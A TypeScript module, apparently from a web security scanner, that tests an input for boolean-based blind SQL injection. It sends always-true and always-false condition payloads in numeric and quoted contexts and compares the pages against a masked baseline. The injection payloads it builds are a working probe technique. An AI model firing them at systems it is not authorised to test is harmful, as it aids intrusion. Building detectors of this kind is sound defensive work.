/**
 * Boolean-based blind SQL injection: a condition the database evaluates changes the page. The
 * baseline is measured (the original value sent twice: a page that changes between two identical
 * requests is compared with its numbers and tokens masked, or not at all); then, in each quoting
 * context, an always-true condition must give the baseline and an always-false one a different
 * page, and a second pair with other operands must do the same, the two false pages alike, and
 * the original value must still give the baseline afterwards.
 * Echoes of the payload are turned back into the original value before comparing, so a page that
 * merely reflects its input never differs.
 */
import { randomInt } from 'node:crypto';
import type { CheckContext, InputPoint, WebResponse } from '../contract.js';
import { sendWith, unreflect } from './probe.js';

/** A true/false pair for operands a and b (a != b): [always true, always false]. */
type Pair = (value: string, a: number, b: number) => [string, string];

const CONTEXTS: Array<{ context: string; applies(value: string): boolean; pair: Pair }> = [
  { context: 'numeric', applies: (value) => /^-?\d+$/.test(value), pair: (v, a, b) => [`${v} AND ${a}=${a}`, `${v} AND ${a}=${b}`] },
  { context: 'single-quoted string', applies: () => true, pair: (v, a, b) => [`${v}' AND '${a}'='${a}`, `${v}' AND '${a}'='${b}`] },
  { context: 'double-quoted string', applies: () => true, pair: (v, a, b) => [`${v}" AND "${a}"="${a}`, `${v}" AND "${a}"="${b}`] },
];

/** What a boolean-based probe proved. */
export interface BooleanProof {
  context: string;
  /** The true and false exchanges of both pairs. */
  proof: WebResponse[];
  summary: string;
}

type Normalise = (body: string) => string;
const exact: Normalise = (body) => body;
/** Numbers, long hex and token-like runs masked: what changes between two identical requests on most pages (clocks, CSRF tokens, nonces). */
const masked: Normalise = (body) => body.replace(/[A-Za-z0-9+/_-]{24,}={0,2}/g, '~').replace(/\d+/g, '0');

/** How to compare pages with the baseline, or null when the page is not stable enough to compare at all. */
function comparer(first: WebResponse, second: WebResponse): Normalise | null {
  if (first.status !== second.status) return null;
  if (first.body === second.body) return exact;
  if (masked(first.body) === masked(second.body)) return masked;
  return null;
}

/**
 * Tries each context's true/false pairs on the input; `baseline` is the endpoint sent twice with
 * its own value. Returns the first context proven twice, or null.
 */
export async function proveBoolean(ctx: CheckContext, point: InputPoint, baseline: [WebResponse, WebResponse]): Promise<BooleanProof | null> {
  const normalise = comparer(...baseline);
  if (!normalise) return null;
  const key = (response: WebResponse, sent: string): string => `${response.status}\n${normalise(unreflect(response.body, sent, point.value))}`;
  const baseKey = key(baseline[0], point.value);

  for (const { context, applies, pair } of CONTEXTS) {
    if (!applies(point.value)) continue;
    const outcome = async (a: number, b: number): Promise<{ truth: WebResponse; falsity: WebResponse; falseKey: string } | null> => {
      const [truePayload, falsePayload] = pair(point.value, a, b);
      const truth = await sendWith(ctx, point, truePayload);
      if (key(truth, truePayload) !== baseKey) return null;
      const falsity = await sendWith(ctx, point, falsePayload);
      const falseKey = key(falsity, falsePayload);
      return falseKey === baseKey ? null : { truth, falsity, falseKey };
    };
    const [a, b] = distinctPair();
    const first = await outcome(a, b);
    if (!first) continue;
    const [c, d] = distinctPair(a);
    const second = await outcome(c, d);
    if (!second || second.falseKey !== first.falseKey) continue;
    // The original value still gives the baseline: the page did not change under the probes (a
    // session lost, a rate limit) in a way that made the false pages differ.
    if (key(await sendWith(ctx, point, point.value), point.value) !== baseKey) return null;
    const [shownTrue, shownFalse] = pair(point.value, a, b);
    return {
      context,
      proof: [first.truth, first.falsity, second.truth, second.falsity],
      summary:
        `In a ${context} context, \`${shownTrue}\` gave the same page as the original value and \`${shownFalse}\` a different one ` +
        `(status ${first.falsity.status}, ${first.falsity.body.length} bytes against ${baseline[0].body.length}); a second pair with other operands (${c}, ${d}) did the same.`,
    };
  }
  return null;
}

/** Two different operands of two digits, the first other than `avoid`. */
function distinctPair(avoid?: number): [number, number] {
  let a = randomInt(10, 100);
  while (a === avoid) a = randomInt(10, 100);
  let b = randomInt(10, 100);
  while (b === a) b = randomInt(10, 100);
  return [a, b];
}
